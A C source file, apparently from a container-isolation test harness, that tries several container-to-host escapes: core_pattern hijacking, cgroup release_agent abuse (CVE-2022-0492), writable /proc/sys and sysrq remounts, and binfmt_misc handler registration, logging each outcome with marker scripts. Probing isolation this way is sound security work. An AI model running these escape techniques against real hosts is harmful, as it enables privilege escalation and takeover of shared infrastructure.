// Values of the kernel that reach all of the host where the kernel is the host's.
#include "attack.h"
#include <sched.h>
#include <sys/resource.h>
#include <sys/wait.h>

// Writes a file of /proc/sys: as it is, made writable again, and through a proc of its own.
static void put_sysctl(const char *name, const char *value) {
    char path[256];
    snprintf(path, sizeof path, "/proc/sys/%s", name);
    note("as it is", put(path, value));
    mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    note("mounted writable", put(path, value));
    mkdir("/tmp/proc", 0755);
    if (mount("proc", "/tmp/proc", "proc", 0, NULL) != 0) return;
    snprintf(path, sizeof path, "/tmp/proc/sys/%s", name);
    note("through a proc of its own", put(path, value));
}

void kernel_setting(void) { put_sysctl(given("SETTING"), given("SETTING_VALUE")); }

// A program of ours as the one that the kernel starts for each core dump, in its own root.
void core_pattern(void) {
    char pattern[512];
    put_script("/core.sh", "CORE_MARKER");
    snprintf(pattern, sizeof pattern, "|%s/core.sh", given("HOST_ROOT"));
    put_sysctl("kernel/core_pattern", pattern);
    pid_t child = fork();
    if (child == 0) {
        struct rlimit limit = {RLIM_INFINITY, RLIM_INFINITY};
        setrlimit(RLIMIT_CORE, &limit);
        abort();
    }
    waitpid(child, NULL, 0);
    sleep(1);
}

// A program of ours that the kernel starts in its own root when a cgroup of version 1 becomes empty (CVE-2022-0492).
static void use_release_agent(void) {
    char options[128], agent[512];
    snprintf(options, sizeof options, "none,name=%s", given("HIERARCHY"));
    mkdir("/tmp/cgroup", 0755);
    long mounted = mount("none", "/tmp/cgroup", "cgroup", 0, options);
    note("mount of the hierarchy", mounted);
    if (mounted != 0) return;
    put_script("/agent.sh", "AGENT_MARKER");
    snprintf(agent, sizeof agent, "%s/agent.sh", given("HOST_ROOT"));
    mkdir("/tmp/cgroup/child", 0755);
    note("notify_on_release", put("/tmp/cgroup/child/notify_on_release", "1"));
    note("release_agent", put("/tmp/cgroup/release_agent", agent));
    pid_t child = fork();
    if (child == 0) {
        put("/tmp/cgroup/child/cgroup.procs", "0");
        _exit(0);
    }
    waitpid(child, NULL, 0);
    sleep(1);
}

void release_agent(void) {
    use_release_agent();
    // Without the capability, in a user namespace that has it.
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) use_release_agent();
}

void sysrq(void) {
    // "h" prints a help into the kernel's log, and does nothing else.
    mount(NULL, "/proc/sysrq-trigger", NULL, MS_REMOUNT | MS_BIND, NULL);
    note("sysrq-trigger", put("/proc/sysrq-trigger", "h"));
    mkdir("/tmp/proc", 0755);
    mount("proc", "/tmp/proc", "proc", 0, NULL);
    note("sysrq-trigger of its own proc", put("/tmp/proc/sysrq-trigger", "h"));
}

// A handler of binary formats is one for all programs of the kernel.
void binary_format(void) {
    char line[256];
    mkdir("/tmp/formats", 0755);
    long mounted = mount("binfmt_misc", "/tmp/formats", "binfmt_misc", 0, NULL);
    note("mount of binfmt_misc", mounted);
    snprintf(line, sizeof line, ":%s:M::%s::/attack:", given("FORMAT"), given("FORMAT"));
    note("register", put("/tmp/formats/register", line));
}

// The identity of the running kernel is in a file that everybody may read: who corrupts this kernel corrupts the host's.
void same_kernel(void) { show_at(AT_FDCWD, "/proc/sys/kernel/random/boot_id"); }
